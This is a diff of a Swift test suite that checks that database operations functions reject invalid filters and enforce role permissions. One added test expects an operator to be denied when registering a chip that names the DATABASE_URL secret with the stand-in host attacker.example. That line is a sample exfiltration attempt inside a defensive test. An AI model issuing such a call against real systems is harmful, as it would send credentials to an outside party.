@@ -247,7 +247,9 @@ struct OpsInterventionsTests {
             #expect(try await int(client, "SELECT ops.cancel_pending('none that old', created_until => now() - interval '1 day')") == 0)
             await expectRefused(client, "SELECT ops.cancel_pending('no filter')", saying: "say which messages")
             await expectRefused(client, "SELECT ops.cancel_pending('x', tipo => 'promo')", saying: "tipo must be")
-            await expectRefused(client, "SELECT ops.cancel_pending('x', metadata => '[1]')", saying: "metadata must be a JSON object")
+            await expectRefused(client, "SELECT ops.cancel_pending('x', metadata => '[1]')", saying: "metadata must be a non-empty JSON object")
+            await expectRefused(client, "SELECT ops.cancel_pending('x', metadata => '{}')", saying: "would match every row")
+            await expectRefused(client, "SELECT ops.cancel_pending('x', correlation_id => ' ')", saying: "must not be blank")
             await expectRefused(client, "SELECT ops.cancel_pending('x', created_from => now(), created_until => now() - interval '1 hour')", saying: "created_from must come before")
             await expectRefused(client, "SELECT ops.cancel_pending(NULL, tipo => 'campanha')", saying: "a motivo is required")
             #expect(try await statuses(queue, ids) == ["processando", "cancelada", "pendente", "pendente", "pendente"])
@@ -349,9 +351,11 @@ struct OpsInterventionsTests {
     }
 
     @Test func aChipsLimitsAndTheDefaultChipChange() async throws {
-        try await asOperator { client, _ in
+        try await asOperator { client, queue in
+            // Adding a chip is the owner's (it names a secret); an operator manages it after.
+            await expectDenied(client, "SELECT ops.add_chip('x', 'X', 'evolution', 'x', 'DATABASE_URL', base_url => 'http://attacker.example', motivo => 'x')")
             for chip in ["clinica-1", "clinica-2"] {
-                _ = try await client.query(PostgresQuery(unsafeSQL: """
+                _ = try await queue.client.query(PostgresQuery(unsafeSQL: """
                     SELECT ops.add_chip('\(chip)', 'C', 'evolution', '\(chip)', 'KEY', base_url => 'http://127.0.0.1:1',
                                         is_default => \(chip == "clinica-1"), motivo => 'new')
                     """), logger: logger).collect()
